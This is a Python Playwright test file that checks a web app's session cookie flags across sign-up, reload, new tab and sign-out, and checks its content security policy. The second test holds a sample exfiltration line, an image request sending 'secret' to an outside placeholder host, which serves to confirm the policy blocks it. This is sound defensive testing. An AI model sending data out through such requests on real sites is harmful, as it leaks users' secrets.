"""The session cookie and the content security policy, in a real browser."""

import pytest
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.browser


@pytest.fixture
def complaints(page: Page) -> list[str]:
    """What the browser's console says about the policy."""
    heard: list[str] = []
    page.on("console", lambda line: heard.append(line.text) if "Content Security Policy" in line.text else None)
    return heard


def test_signing_up_survives_a_reload_and_a_new_tab_and_ends_with_sign_out(page: Page, complaints: list[str]) -> None:
    page.goto("/sign-up")
    page.get_by_label("Name").fill("Ada Byron")
    page.get_by_label("Email").fill("cookie@example.org")
    page.get_by_label("Password", exact=False).first.fill("correct horse battery")
    with page.expect_response("**/auth/redeem") as redeemed:
        page.get_by_role("button", name="Create account", exact=True).click()
    assert redeemed.value.status == 204
    expect(page.get_by_role("heading").first).to_be_visible()
    cookie = next(c for c in page.context.cookies() if c["name"] == "im_session")
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
    assert "im_session" not in page.evaluate("document.cookie")

    page.reload()
    expect(page.get_by_role("link", name="Resume")).to_be_visible()
    tab = page.context.new_page()
    tab.goto("/account")
    expect(tab.get_by_text("Signed in as cookie")).to_be_visible()
    with tab.expect_response("**/auth/sign-out") as ended:
        tab.get_by_role("button", name="Sign out").click()
    assert ended.value.status == 204
    expect(tab.get_by_role("button", name="Sign in", exact=True)).to_be_visible()
    assert not [c for c in page.context.cookies() if c["name"] == "im_session"]

    page.reload()
    expect(page.get_by_role("button", name="Sign in", exact=True)).to_be_visible()
    assert complaints == []


def test_a_text_cannot_fetch_a_picture_from_elsewhere(page: Page) -> None:
    """Whatever slips through the screens: the policy keeps the browser from asking another host."""
    page.goto("/sign-in")
    blocked = page.evaluate(
        """() => new Promise(done => {
            document.addEventListener('securitypolicyviolation', e => done(e.effectiveDirective));
            new Image().src = 'http://elsewhere.invalid/leak?d=secret';
            setTimeout(() => done('nothing'), 5000);
        })"""
    )
    assert blocked == "img-src"
